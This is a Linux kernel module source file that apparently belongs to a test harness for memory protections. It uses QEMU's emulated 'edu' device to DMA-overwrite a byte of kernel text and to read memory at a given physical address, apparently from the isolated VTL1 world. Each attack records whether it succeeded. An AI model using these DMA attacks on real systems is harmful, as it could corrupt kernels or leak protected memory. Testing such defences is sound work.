// SPDX-License-Identifier: GPL-2.0-only
/*
 * DMA by a device that is master of the bus: QEMU's "edu", which copies where it is told to.
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/pci.h>
#include <linux/string.h>

#include "attacks.h"

#define EDU_VENDOR 0x1234
#define EDU_DEVICE 0x11e8
#define EDU_SOURCE 0x80
#define EDU_TARGET 0x88
#define EDU_COUNT 0x90
#define EDU_COMMAND 0x98
#define EDU_RUN 1
#define EDU_TO_MEMORY 2
#define EDU_BUFFER 0x40000
#define EDU_TRIES 100
#define SAMPLE 256

static void __iomem *edu_open(struct pci_dev **device)
{
	*device = pci_get_device(EDU_VENDOR, EDU_DEVICE, NULL);
	if (!*device || pci_enable_device(*device))
		return NULL;
	pci_set_master(*device);
	return pci_iomap(*device, 0, 0);
}

static void edu_copy(void __iomem *edu, u64 from, u64 to, u64 n, u64 direction)
{
	unsigned int i;

	writeq(from, edu + EDU_SOURCE);
	writeq(to, edu + EDU_TARGET);
	writeq(n, edu + EDU_COUNT);
	writeq(EDU_RUN | direction, edu + EDU_COMMAND);
	for (i = 0; i < EDU_TRIES && readq(edu + EDU_COMMAND) & EDU_RUN; i++)
		msleep(20);
}

/* From one physical address to another. */
static int dma(u64 from, u64 to, u64 n)
{
	struct pci_dev *device;
	void __iomem *edu = edu_open(&device);

	if (!edu)
		return -ENODEV;
	edu_copy(edu, from, EDU_BUFFER, n, 0);
	edu_copy(edu, EDU_BUFFER, to, n, EDU_TO_MEMORY);
	pci_iounmap(device, edu);
	pci_dev_put(device);
	return 0;
}

static unsigned long text;

static int text_run(const struct attack *attack, struct result *result)
{
	u8 *page = (u8 *)get_zeroed_page(GFP_KERNEL);
	int error;

	text = target_text();
	if (!page || !text)
		return -ENOMEM;
	page[0] = 0xcc ^ 1;
	result->address = physical(text);
	error = dma(__pa(page), result->address, 1);
	result->effect = *(volatile u8 *)text == page[0];
	free_page((unsigned long)page);
	return error;
}

static void text_undo(const struct attack *attack)
{
	u8 *page = (u8 *)get_zeroed_page(GFP_KERNEL);

	if (!page)
		return;
	page[0] = 0xcc;
	dma(__pa(page), physical(text), 1);
	free_page((unsigned long)page);
}

/* What is there is not known, but that it is not what the page is filled with before. */
static int vtl1_run(const struct attack *attack, struct result *result)
{
	u8 *page = (u8 *)get_zeroed_page(GFP_KERNEL);
	int error;

	if (!page)
		return -ENOMEM;
	memset(page, 0xa5, SAMPLE);
	result->address = argument();
	error = dma(argument(), __pa(page), SAMPLE);
	result->effect = page[0] != 0xa5 || memcmp(page, page + 1, SAMPLE - 1);
	free_page((unsigned long)page);
	return error;
}

const struct attack device_attacks[] = {
	{ "device-dma-text", text_run, text_undo, NULL },
	{ "device-dma-vtl1", vtl1_run, NULL, NULL },
	{ }
};
